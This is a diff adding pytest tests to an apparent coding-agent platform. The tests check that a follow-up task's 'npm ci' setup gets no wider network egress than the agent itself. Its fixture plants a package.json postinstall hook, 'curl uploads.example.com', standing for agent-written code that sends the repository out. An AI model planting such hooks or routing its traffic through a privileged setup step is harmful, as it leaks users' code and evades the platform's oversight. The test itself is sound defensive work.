@@ -12,6 +12,7 @@ from pathlib import Path
 
 import pytest
 
+from common.netpolicy import EgressPolicy, egress_check
 from environments.cache import SnapshotKey, snapshot_find
 from environments.models import CacheUse, Environment, TaskEnvironment
 from environments.services import EnvironmentInput, environment_save, task_environment_choose
@@ -59,6 +60,33 @@ def setups(monkeypatch) -> list[ContainerSpec]:
     monkeypatch.setattr(run_setup, "container_run", run)
     monkeypatch.setattr(run_setup, "_setup_gateway", gateway)
     return specs
+
+
+@pytest.fixture
+def setup_egress(setups, monkeypatch) -> list[EgressPolicy]:
+    """The egress policy each setup's gateway was given, in order."""
+    policies: list[EgressPolicy] = []
+    stub = run_setup._setup_gateway
+
+    def gateway(task, ready, policy, setup_log, log):
+        policies.append(policy)
+        return stub(task, ready, policy, setup_log, log)
+
+    monkeypatch.setattr(run_setup, "_setup_gateway", gateway)
+    return policies
+
+
+def _reached(policy: EgressPolicy, hosts: list[str]) -> list[str]:
+    """The hosts the policy lets a connection to port 443 through to (DNS answered here)."""
+
+    def resolve(host: str, port: int) -> list[str]:
+        return ["140.82.112.3"]
+
+    return [
+        host
+        for host in hosts
+        if egress_check(host=host, port=443, policy=policy, resolve=resolve).allowed
+    ]
 
 
 def _environment(owner, **fields) -> Environment:
@@ -269,6 +297,53 @@ def test_a_follow_ups_setup_never_runs_agent_written_commands_with_the_setup_sec
     [said] = [line for line in run.setup_log.splitlines() if line.startswith(WITHHELD)]
     assert "a private registry" in said
     assert SECRET in prepared.secrets  # still redacted from the agent's log
+
+
+CUT = "[runner] The setup reaches no host the agent may not reach: "
+
+
+def test_a_follow_ups_setup_reaches_no_host_its_agent_may_not(
+    user, local_repo, tmp_path, setup_egress
+):
+    """The earlier agent's package.json script runs in the follow-up's setup (npm ci): with the
+    setup's own list it would reach what the agent may not, a host to send the code to."""
+    environment = _environment(
+        user,
+        setup_script="npm ci",
+        setup_egress="custom",
+        setup_allow="registry.npmjs.org\nuploads.example.com",
+        agent_egress="custom",
+        agent_allow="registry.npmjs.org\ngithub.com",
+    )
+    hosts = ["registry.npmjs.org", "uploads.example.com", "github.com"]
+    first = _first_task(user, local_repo, environment)
+    workspace = workspace_clone(task=first).finished()
+    try:
+        _setup(first, workspace)
+    finally:
+        workspace_remove(task_id=first.pk)
+    assert CUT not in TaskEnvironment.objects.get(pk=first.pk).setup_log
+    follow_up = _follow_up(
+        first,
+        tmp_path,
+        {"package.json": '{"scripts": {"postinstall": "curl uploads.example.com"}}'},
+    )
+    workspace = workspace_clone(task=follow_up).finished()
+    try:
+        prepared, _ = _setup(follow_up, workspace)
+    finally:
+        workspace_remove(task_id=follow_up.pk)
+    assert isinstance(prepared, Prepared)
+    first_egress, follow_up_egress = setup_egress
+    assert _reached(first_egress, hosts) == ["registry.npmjs.org", "uploads.example.com"]
+    assert _reached(follow_up_egress, hosts) == ["registry.npmjs.org"]
+    assert _reached(prepared.agent_egress, hosts) == ["registry.npmjs.org", "github.com"]
+    [said] = [
+        line
+        for line in TaskEnvironment.objects.get(pk=follow_up.pk).setup_log.splitlines()
+        if line.startswith(CUT)
+    ]
+    assert "the task continues an earlier one" in said
 
 
 def test_a_follow_up_on_its_parents_pull_request_branch_gets_no_setup_secrets(
